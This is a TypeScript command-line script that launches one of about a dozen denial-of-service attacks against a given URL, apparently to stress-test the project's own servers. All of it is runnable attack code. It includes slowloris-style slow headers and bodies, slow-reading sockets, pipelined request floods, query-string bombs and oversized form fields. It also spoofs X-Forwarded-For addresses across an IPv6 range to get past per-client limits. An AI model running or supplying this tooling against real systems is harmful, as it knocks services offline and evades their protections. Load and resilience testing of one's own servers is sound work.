/**
 * Runs one kind of attacker in its own process: `node siege-attackers.ts KIND URL PATH`. Reconnects when it's cut off. Stops on
 * SIGTERM.
 */
import { connect, type Socket } from 'node:net'

const [kind = '', url = '', path = '/'] = process.argv.slice(2)
const { host, hostname, port } = new URL(url)

/** Keeps this many connections open. */
function keepOpen(count: number, act: (socket: Socket) => NodeJS.Timeout | undefined): void {
  const reconnect = () => {
    let timer: NodeJS.Timeout | undefined
    const socket = connect(Number(port), hostname, () => {
      timer = act(socket)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      clearInterval(timer)
      setTimeout(reconnect, 50)
    })
  }
  for (let index = 0; index < count; index++) setTimeout(reconnect, index)
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const queryBomb = get(`/?${'%41&'.repeat(3800)}`)
const pageFlood = Buffer.from(get('/').repeat(2500))
const body = `firstName=${'%3C'.repeat(14_000)}`
const echoedForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nOrigin: ${url}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`

/** Each one from another client in the same IPv6 network: the servers trust the header. */
function post(to: string, content: string, type = 'application/x-www-form-urlencoded'): string {
  const client = (clients++ % 65_536).toString(16)
  return `POST ${to} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: 2001:db8:1:${client}::1\r\nOrigin: ${url}\r\nContent-Type: ${type}\r\nContent-Length: ${content.length}\r\n\r\n${content}`
}
let clients = 0
const longPhone = `phone=1${'+'.repeat(15_000)}y`
const longDate = `dateOfBirth-month=0${'a'.repeat(15_000)}0&dateOfBirth-day=1&dateOfBirth-year=1965`
const parameters = (count: number) => Array.from({ length: count }, (_, index) => `utm_${index}=x`).join('&')
const hiddenFields = `campaign=${encodeURIComponent(parameters(800))}&asked=${'%3C'.repeat(1000)}`
const campaignPage = get(`/?${parameters(200)}`)
const refusedRequests = Buffer.from(
  'GET / HTTP/1.1\r\nHost: localhost\r\nExpect: x\r\n\r\nGET / HTTP/1.1\r\n\r\n'.repeat(1000),
)
const startOfForm = `POST /api/leads HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10000\r\n\r\n`

/** Pipelines without reading. */
function flood(requests: Buffer): void {
  keepOpen(100, socket => {
    socket.pause()
    const write = () => {
      while (!socket.destroyed && socket.write(requests));
    }
    socket.on('drain', write)
    write()
    return undefined
  })
}

/** On each connection, each time. */
function sendEvery(ms: number, connections: number, requests: () => readonly string[]): void {
  keepOpen(connections, socket => {
    socket.resume()
    return setInterval(() => requests().map(request => socket.write(request)), ms)
  })
}

const attacks: Readonly<Record<string, () => void>> = {
  pipelining: () => flood(pageFlood),
  slowReaders: () =>
    keepOpen(2000, socket => {
      socket.pause()
      socket.write(get(path).repeat(4))
      return setInterval(() => socket.read(1024), 1000)
    }),
  slowHeaders: () =>
    keepOpen(1500, socket => {
      socket.resume()
      socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
      return setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
    }),
  refusedRequests: () => flood(refusedRequests),
  longFields: () =>
    sendEvery(1000, 4, () => [post('/api/leads', longPhone), post('/api/leads', longDate), post('/stop', longPhone)]),
  slowForms: () =>
    keepOpen(1800, socket => {
      socket.resume()
      socket.write(startOfForm)
      return setInterval(() => socket.write('x'), 8000)
    }),
  campaigns: () =>
    sendEvery(100, 9, () => [post('/api/leads', hiddenFields), campaignPage, campaignPage, campaignPage]),
  challenges: () => sendEvery(50, 50, () => [post('/api/session/sign-in/options', '{}', 'application/json')]),
  queryBombs: () =>
    keepOpen(8, socket => {
      socket.resume()
      // Eight connections send ten requests a second each: 80 requests and 1.2 MB of query strings a second.
      return setInterval(() => socket.write(queryBomb), 100)
    }),
  unreadForms: () =>
    keepOpen(1500, socket => {
      socket.pause()
      socket.write(echoedForm)
      return undefined
    }),
  unreadAssets: () =>
    keepOpen(200, socket => {
      socket.pause()
      socket.write(get(path).repeat(20))
      return undefined
    }),
}

attacks[kind]?.()
process.on('SIGTERM', () => process.exit())
